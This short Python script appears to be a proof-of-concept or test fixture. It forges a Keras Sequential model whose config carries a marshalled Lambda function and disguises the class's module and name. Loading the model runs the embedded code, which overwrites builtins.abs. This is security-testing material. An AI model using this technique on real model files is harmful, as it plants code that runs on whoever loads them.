# get_config claims a Lambda with code in it, packed as Keras packs it.
# %% model
import keras
from keras.src.utils import python_utils
code = python_utils.func_dump(lambda x: __import__("builtins").__setattr__("abs", lambda v: 0) or x)
class Forged(keras.Sequential):
    def get_config(self):
        config = super().get_config()
        config["layers"].append({
            "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"value": code}}},
        })
        return config
Forged.__module__ = "keras.src.models.sequential"
Forged.__name__ = "Sequential"
model = Forged([keras.Input((1,)), keras.layers.Dense(1)])
